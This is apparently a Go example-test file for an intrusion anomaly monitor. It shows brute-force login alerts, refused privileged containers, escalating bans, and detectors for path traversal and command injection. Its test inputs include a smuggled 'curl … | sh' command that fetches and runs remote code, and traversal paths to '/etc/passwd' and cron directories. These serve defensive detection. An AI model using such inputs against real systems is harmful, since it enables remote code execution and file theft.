package anomaly_test

import (
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"time"

	"go.cordon.dev/cordon/guard/anomaly"
)

// A login behind a proxy of one's own: the tenth refusal of one address is an alert.
func Example() {
	monitor, err := anomaly.New(anomaly.Options{Handler: func(a anomaly.Alert) {
		fmt.Println(a.Severity, a.Type, a.Message)
	}})
	if err != nil {
		panic(err)
	}
	login := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("X-API-Key") != "the right one" {
			http.Error(w, "who are you?", http.StatusUnauthorized)
		}
	})
	watched := monitor.Middleware(anomaly.HTTPOptions{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}})(login)

	for range 100 {
		r := httptest.NewRequest(http.MethodGet, "/login", nil)
		r.RemoteAddr = "10.0.0.1:4711"
		r.Header.Set("X-Forwarded-For", "203.0.113.9")
		watched.ServeHTTP(httptest.NewRecorder(), r)
	}
	monitor.Close()
	fmt.Println(monitor.Stats().FailedAuth, "failed logins")
	// Output:
	// high brute_force 10+ failed auth attempts from 203.0.113.9
	// 100 failed logins
}

// What a program refuses, it records.
func ExampleMonitor_RecordPrivilegedContainerAttempt() {
	monitor, err := anomaly.New(anomaly.Options{Handler: func(a anomaly.Alert) { fmt.Println(a.Severity, a.Message) }})
	if err != nil {
		panic(err)
	}
	create := func(user string, privileged bool) error {
		if privileged {
			monitor.RecordPrivilegedContainerAttempt(user)
			return errors.New("privileged containers are not allowed")
		}
		return nil
	}
	refused := create("anna", true)
	monitor.Close() // waits until the handler has been told
	fmt.Println(refused)
	// Output:
	// critical Attempted to create privileged container by user anna
	// privileged containers are not allowed
}

// Names that come from outside are looked at before they become a path or an argument.
func ExampleIsPathTraversal() {
	for _, name := range []string{"nightly-build", "../../etc/cron.d/x", "a; curl http://192.0.2.1/x | sh"} {
		fmt.Println(anomaly.IsPathTraversal(name), anomaly.IsCommandInjection(name))
	}
	// Output:
	// false false
	// true false
	// false true
}

// Who comes back is kept out for longer each time: a minute, two, four. The Monitor says
// who and how often; to refuse is the service's part.
func Example_repeats() {
	ban := func(a anomaly.Alert) {
		if a.Metadata["episode"] != anomaly.EpisodeOpened || a.SourceIP == "" {
			return
		}
		repeats, _ := a.Metadata["repeats"].(int)
		fmt.Println("no requests from", a.SourceIP, "for", time.Minute<<min(repeats, 10))
	}
	monitor, err := anomaly.New(anomaly.Options{Handler: ban, Allowlist: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}})
	if err != nil {
		panic(err)
	}
	monitor.RecordPathTraversal(netip.MustParseAddr("203.0.113.9"), "../../etc/passwd")
	monitor.RecordPathTraversal(netip.MustParseAddr("10.0.0.7"), "../../etc/passwd") // our own scanner
	monitor.Close()
	// Output:
	// no requests from 203.0.113.9 for 1m0s
}

// What docs/anomaly.md shows: a service that watches itself.
func Example_service() {
	type container struct{ Privileged bool }
	addr, user := netip.MustParseAddr("203.0.113.9"), "anna"
	serve := func(handler http.Handler, config container, name string) error {
		monitor, err := anomaly.New(anomaly.Options{Handler: anomaly.LogTo(slog.Default())})
		if err != nil {
			return err
		}
		defer monitor.Close()
		handler = monitor.Middleware(anomaly.HTTPOptions{})(handler) // every 401 is a failed login
		handler.ServeHTTP(httptest.NewRecorder(), httptest.NewRequest(http.MethodGet, "/", nil))

		if config.Privileged { // where containers are made
			monitor.RecordPrivilegedContainerAttempt(user)
			return errors.New("privileged containers are not allowed")
		}
		if anomaly.IsPathTraversal(name) { // where a name comes in
			monitor.RecordPathTraversal(addr, name)
			return errors.New("no good name for a job")
		}
		return nil
	}
	before := slog.Default()
	defer slog.SetDefault(before)
	slog.SetDefault(slog.New(slog.DiscardHandler))
	fmt.Println(serve(http.NotFoundHandler(), container{Privileged: true}, "nightly"))
	fmt.Println(serve(http.NotFoundHandler(), container{}, "../../etc/cron.d/x"))
	// Output:
	// privileged containers are not allowed
	// no good name for a job
}
